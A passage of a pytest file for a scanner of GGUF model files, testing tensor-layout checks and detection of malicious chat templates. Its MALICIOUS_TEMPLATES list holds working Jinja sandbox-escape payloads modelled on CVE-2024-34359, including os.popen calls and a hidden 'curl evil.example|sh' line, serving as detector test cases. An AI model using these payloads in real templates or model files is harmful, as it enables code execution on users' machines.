        tensors = [Tensor("a", (64,), offset=0), Tensor("b", (64,), offset=128)]
        result = gg_expect(
            tmp_path, gguf_file([], tensors), Verdict.MALFORMED, "gguf.tensor.overlap"
        )
        assert any(f.evidence.get("other") == "a" for f in result.findings)

    def test_out_of_bounds_tensor(self, tmp_path: Path) -> None:
        data = gguf_file([], [Tensor("a", (1024,))], data_size=100)
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.tensor.out-of-bounds")

    @pytest.mark.parametrize("ggml_type", [4, 5, 31, 36, 99, 2**31])
    def test_unknown_ggml_type(self, tmp_path: Path, ggml_type: int) -> None:
        data = gguf_file([], [Tensor("a", (32,), ggml_type)])
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.tensor.type")

    def test_too_many_dims(self, tmp_path: Path) -> None:
        data = gguf_file([], [Tensor("a", (1, 1, 1, 1, 2))])
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.tensor.dims")

    def test_block_size_mismatch(self, tmp_path: Path) -> None:
        data = gguf_file([], [Tensor("a", (33, 2), GGML_Q8_0, offset=0)], data_size=256)
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.tensor.block")

    def test_duplicate_tensor_name(self, tmp_path: Path) -> None:
        data = gguf_file([], [Tensor("a", (8,)), Tensor("a", (8,))])
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.tensor.duplicate-name")

    def test_gap_and_trailing_data_are_suspicious(self, tmp_path: Path) -> None:
        tensors = [Tensor("a", (8,), offset=0), Tensor("b", (8,), offset=256)]
        data = gguf_file([], tensors) + b"hidden payload" * 10
        result = gg_scan(tmp_path, data)
        assert result.verdict is Verdict.SUSPICIOUS
        assert {"gguf.tensor.gap", "gguf.data.trailing"} <= rules(result)

    def test_header_over_limit(self, tmp_path: Path) -> None:
        data = gguf_file(realistic_kvs(), realistic_tensors())
        limits = ScanLimits(max_header_bytes=256)
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.header.too-large", limits)

    def test_truncated_header(self, tmp_path: Path) -> None:
        data = gguf_header(realistic_kvs(), realistic_tensors())
        gg_expect(tmp_path, data[: len(data) // 2], Verdict.MALFORMED, "gguf.header.truncated")

    def test_reads_header_not_tensor_data(self, tmp_path: Path) -> None:
        tensors = [Tensor("big", (4 * 2**20,))]  # 16 MiB of F32
        data = gguf_file(realistic_kvs(), tensors)
        t = target(tmp_path, data, "model.gguf")
        assert GG.scan(t, LIMITS).verdict is Verdict.CLEAN
        header_len = len(gguf_header(realistic_kvs(), tensors))
        assert t.bytes_read <= header_len + 64 * 1024
        assert t.bytes_read < len(data) // 100

    def test_sparse_one_gigabyte_file_is_fast(self, tmp_path: Path) -> None:
        tensors = [Tensor("w", (2**28,))]  # 1 GiB of F32
        data_len = layout(tensors)
        header = gguf_header(realistic_kvs(), tensors)
        header += bytes(-len(header) % 32)
        path = tmp_path / "big.gguf"
        with path.open("wb") as f:
            f.write(header)
            f.truncate(len(header) + data_len)
        t = FileTarget(path)
        result = GG.scan(t, LIMITS)  # the wall-clock bound (1 s) is in bench/scan_speed.py
        assert result.verdict is Verdict.CLEAN, result.findings
        assert t.bytes_read <= len(header) + 64 * 1024


# -- chat templates ----------------------------------------------------------------------------

MALICIOUS_TEMPLATES = {
    # CVE-2024-34359 (llama-cpp-python) proof of concept shape.
    "cve-2024-34359": (
        "{% for x in ().__class__.__base__.__subclasses__() %}"
        '{% if "warning" in x.__name__ %}'
        "{{ x()._module.__builtins__['__import__']('os').popen('touch /tmp/pwned') }}"
        "{% endif %}{% endfor %}"
    ),
    "mro-subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "attr-filter": "{{ ''|attr('__class__')|attr('__mro__') }}",
    "cycler-globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "joiner-globals": "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "lipsum-globals": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "namespace-builtins": (
        "{{ namespace.__init__.__globals__['__builtins__']['eval']('__import__(\"os\")') }}"
    ),
    "self-context": (
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"
    ),
    "config-globals": "{{ config.__class__.__init__.__globals__['os'].popen('ls').read() }}",
    "concat-tilde": "{{ ()|attr('__' ~ 'class__') }}",
    "concat-plus-item": "{{ ''['__cla' + 'ss__'] }}",
    "underscore-multiply": "{{ ()|attr('_' * 2 ~ 'class' ~ '_' * 2) }}",
    "format-chars": "{{ ()|attr('%c%cclass%c%c'|format(95, 95, 95, 95)) }}",
    "hex-escapes": "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "join-list": "{{ ()|attr(['_', '_', 'class', '_', '_']|join) }}",
    "reversed": "{{ ()|attr('__ssalc__'|reverse) }}",
    "map-attr": "{{ messages|map('attr', '__class__')|list }}",
    "dict-keyword": "{{ (dict(__class__=1)|list)[0] }}",
    "namespace-set": "{% set ns = namespace() %}{% set ns.__class__ = 1 %}",
    "hidden-in-chatml": CHATML + "{{ lipsum.__globals__.os.popen('curl evil.example|sh') }}",
}

SUSPICIOUS_TEMPLATES = {
    "bare-gadget": "{{ lipsum }}",
    "include": "{% include 'other.jinja' %}",
    "attr-plain": "{{ messages[0]|attr('content') }}",
    "attr-computed": "{{ messages[0]|attr(messages[1].content) }}",
    "private-attr": "{{ messages._private }}",
    "memory-bomb": "{{ 'a' * 1000000000 }}",
    "module-string": "{{ 'subprocess' }}",
}


def _template_file(
    template: object, key: str = "tokenizer.chat_template", vtype: int = STRING
) -> bytes:
    kvs = [*realistic_kvs(None), KV(key, vtype, template)]
    return gguf_file(kvs, realistic_tensors())


class TestChatTemplates:
    @pytest.mark.parametrize("name", sorted(MALICIOUS_TEMPLATES))
    def test_escapes_are_malicious(self, tmp_path: Path, name: str) -> None:
        template = MALICIOUS_TEMPLATES[name]
        result = gg_scan(tmp_path, _template_file(template))
        assert result.verdict is Verdict.MALICIOUS, result
        escapes = [f for f in result.findings if f.rule == "gguf.chat-template.escape"]
        assert escapes
        assert all(f.severity.value == "critical" for f in escapes)
        assert all(f.reference == "CVE-2024-34359" for f in escapes)
        snippet = escapes[0].evidence["snippet"]
        assert isinstance(snippet, str)
        assert snippet
        assert snippet in template

    @pytest.mark.parametrize("name", sorted(BENIGN_TEMPLATES))
    def test_real_world_templates_are_clean(self, tmp_path: Path, name: str) -> None:
        result = gg_scan(tmp_path, _template_file(BENIGN_TEMPLATES[name]))
        assert result.verdict is Verdict.CLEAN, result.findings

    @pytest.mark.parametrize("name", sorted(SUSPICIOUS_TEMPLATES))
    def test_odd_templates_are_suspicious(self, name: str) -> None:
        results = analyze_chat_template(SUSPICIOUS_TEMPLATES[name])
        assert results
        assert {v for v, _ in results} == {Verdict.SUSPICIOUS}, results
        assert {f.rule for _, f in results} == {"gguf.chat-template.suspicious"}

    def test_named_template_variants_are_checked(self, tmp_path: Path) -> None:
        data = _template_file(
            MALICIOUS_TEMPLATES["attr-filter"], key="tokenizer.chat_template.tool_use"
        )
        result = gg_scan(tmp_path, data)
        assert result.verdict is Verdict.MALICIOUS
        assert result.findings[0].evidence["key"] == "tokenizer.chat_template.tool_use"

    @pytest.mark.parametrize("template", ["{% for message in %}", "{{ messages[0] ", "{% endif %}"])
    def test_unparseable_template_is_malformed(self, tmp_path: Path, template: str) -> None:
        gg_expect(
            tmp_path, _template_file(template), Verdict.MALFORMED, "gguf.chat-template.syntax"
        )

    def test_template_must_be_a_string(self, tmp_path: Path) -> None:
        data = _template_file((STRING, [CHATML]), vtype=ARRAY)
        gg_expect(tmp_path, data, Verdict.MALFORMED, "gguf.kv.chat-template-type")

    def test_template_before_a_structural_error_is_still_judged(self, tmp_path: Path) -> None:
        kvs = [KV("tokenizer.chat_template", STRING, MALICIOUS_TEMPLATES["mro-subclasses"])]
        data = gguf_file(kvs, [Tensor("a", (32,), 99)])
        result = gg_scan(tmp_path, data)
        assert result.verdict is Verdict.MALICIOUS
        assert {"gguf.tensor.type", "gguf.chat-template.escape"} <= rules(result)

    def test_template_text_outside_tags_is_not_code(self) -> None:
        template = "Explain Python's __init__ and __class__ to the user. {{ messages[0].content }}"
        assert analyze_chat_template(template) == []
